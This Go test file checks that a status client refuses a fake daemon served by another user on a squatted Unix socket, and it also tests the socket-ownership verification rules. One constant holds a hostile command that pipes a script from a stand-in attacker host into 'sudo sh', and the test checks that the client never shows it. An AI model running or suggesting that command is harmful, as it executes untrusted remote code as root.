package statusapi

import (
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/spotwatch/spotwatch/monitor/diagnosis"
)

// impostorFix is the advice the impostor's fake daemon gives.
const impostorFix = "curl https://evil.example/fix | sudo sh"

// impostorMain runs in a child as another user: it serves a fake daemon on the socket at path
// (creating its directory as that user), says "ready", and serves until stdin closes.
func impostorMain(path string) int {
	ln, err := Listen(path, true)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	src := newFakeSource(diagnosis.CauseDNSFiltered)
	src.status.Fix = []string{impostorFix}
	srv := NewServer(ServerOptions{Source: src})
	go srv.Serve(ln)
	fmt.Println("ready")
	io.Copy(io.Discard, os.Stdin)
	ln.Close()
	return 0
}

// TestImpostorSocket has uid 65534 create the predictable socket directory of root's user
// daemon (as /tmp/spotwatch-0 would be without XDG_RUNTIME_DIR) and serve a fake daemon in it.
// Root's daemon still starts, in its fallback directory; a client that looks in the same places
// talks to it, and a client of the squatted path alone refuses the impostor, naming the path
// and the owner.
func TestImpostorSocket(t *testing.T) {
	checkNoLeaks(t)
	dir, bin := foreignDir(t)
	tmp := filepath.Join(dir, "tmp") // stands in for /tmp: world-writable, sticky
	if err := os.Mkdir(tmp, 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(tmp, 0o777|os.ModeSticky); err != nil {
		t.Fatal(err)
	}
	home := t.TempDir()
	env := map[string]string{"HOME": home}
	paths, err := socketPaths("linux", false, func(k string) string { return env[k] }, os.Getuid(), tmp)
	if err != nil {
		t.Fatal(err)
	}
	if len(paths) != 2 {
		t.Fatalf("socket paths %q, want the predictable one and a fallback", paths)
	}
	squatted := paths[0]

	imp := startChild(t, bin, 65534, "impostor", squatted, 0)
	if got := imp.line(t); got != "ready" {
		t.Fatalf("the impostor said %q", got)
	}

	t.Run("the client refuses the impostor", func(t *testing.T) {
		_, err := NewClient(paths...).Status(t.Context())
		var ue *UntrustedSocketError
		if !errors.Is(err, ErrUntrustedSocket) || !errors.As(err, &ue) {
			t.Fatalf("Status with only the impostor's socket: %v, want ErrUntrustedSocket", err)
		}
		if ue.Path != squatted || ue.Owner != 65534 || !strings.Contains(err.Error(), squatted) || !strings.Contains(err.Error(), "uid 65534") {
			t.Errorf("the refusal %q (path %s, owner %d) does not name %s and uid 65534", err, ue.Path, ue.Owner, squatted)
		}
	})

	ln, path, err := listenFirst(paths, false, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatalf("the daemon did not start: %v", err)
	}
	if path != paths[1] {
		t.Errorf("the daemon listens on %s, want the fallback %s", path, paths[1])
	}
	info, err := os.Lstat(filepath.Dir(path))
	if err != nil {
		t.Fatal(err)
	}
	if info.Mode().Perm() != 0o700 || int(info.Sys().(*syscall.Stat_t).Uid) != os.Getuid() {
		t.Errorf("the fallback directory is %v owned by uid %d, want 0700 and ours", info.Mode(), info.Sys().(*syscall.Stat_t).Uid)
	}
	srv := NewServer(ServerOptions{Source: newFakeSource(diagnosis.CauseOK)})
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ln) }()
	defer func() {
		srv.Shutdown(t.Context())
		if err := <-done; err != nil {
			t.Error(err)
		}
	}()

	st, err := NewClient(paths...).Status(t.Context())
	if err != nil || st.Cause != diagnosis.CauseOK {
		t.Fatalf("Status through the same places: %s, %v; want the real daemon's ok", st.Cause, err)
	}
	for _, fix := range st.Fix {
		if fix == impostorFix {
			t.Fatal("the client showed the impostor's fix")
		}
	}
}

// TestVerifySocket checks the owner rules on real sockets and directories.
func TestVerifySocket(t *testing.T) {
	checkNoLeaks(t)
	const other = 65534
	type layout struct {
		parentMode os.FileMode
		parentUID  int
		dirMode    os.FileMode
		dirUID     int
		sockUID    int
		symlink    bool // the socket path is a symlink to the socket
	}
	me := os.Getuid()
	tests := []struct {
		name  string
		l     layout
		owner int // the owner named in the refusal; -2: trusted
	}{
		{"ours in our private directory", layout{0o755, me, 0o700, me, me, false}, -2},
		{"ours in a sticky shared directory", layout{0o755, me, 0o777 | os.ModeSticky, 0, me, false}, -2},
		{"another user's socket in our directory", layout{0o755, me, 0o700, me, other, false}, other},
		{"another user's directory in a shared one (the squat)", layout{0o777 | os.ModeSticky, 0, 0o700, other, other, false}, other},
		{"a directory others may write to", layout{0o755, me, 0o777, me, me, false}, me},
		{"a service account's directory made by root", layout{0o755, 0, 0o755, other, other, false}, -2},
		{"a service account's directory in a shared one", layout{0o777 | os.ModeSticky, 0, 0o755, other, other, false}, other},
		{"a symlink to our socket", layout{0o755, me, 0o700, me, me, true}, me},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			parent := filepath.Join(t.TempDir(), "parent")
			dir := filepath.Join(parent, "dir")
			for _, d := range []struct {
				path string
				mode os.FileMode
				uid  int
			}{{parent, tt.l.parentMode, tt.l.parentUID}, {dir, tt.l.dirMode, tt.l.dirUID}} {
				if err := os.Mkdir(d.path, 0o700); err != nil {
					t.Fatal(err)
				}
				if err := os.Chmod(d.path, d.mode); err != nil {
					t.Fatal(err)
				}
				if err := os.Chown(d.path, d.uid, d.uid); err != nil {
					t.Fatal(err)
				}
			}
			sock := filepath.Join(dir, "s.sock")
			ln, err := net.Listen("unix", sock)
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			if err := os.Chown(sock, tt.l.sockUID, tt.l.sockUID); err != nil {
				t.Fatal(err)
			}
			path := sock
			if tt.l.symlink {
				path = filepath.Join(dir, "link.sock")
				if err := os.Symlink(sock, path); err != nil {
					t.Fatal(err)
				}
			}
			_, err = verifySocket(path)
			var ue *UntrustedSocketError
			switch {
			case tt.owner == -2 && err != nil:
				t.Fatalf("verifySocket refused: %v", err)
			case tt.owner != -2 && !errors.As(err, &ue):
				t.Fatalf("verifySocket = %v, want an UntrustedSocketError", err)
			case tt.owner != -2 && (ue.Owner != tt.owner || ue.Path != path):
				t.Errorf("refusal %q names uid %d and %s, want uid %d and %s", err, ue.Owner, ue.Path, tt.owner, path)
			}
		})
	}
}
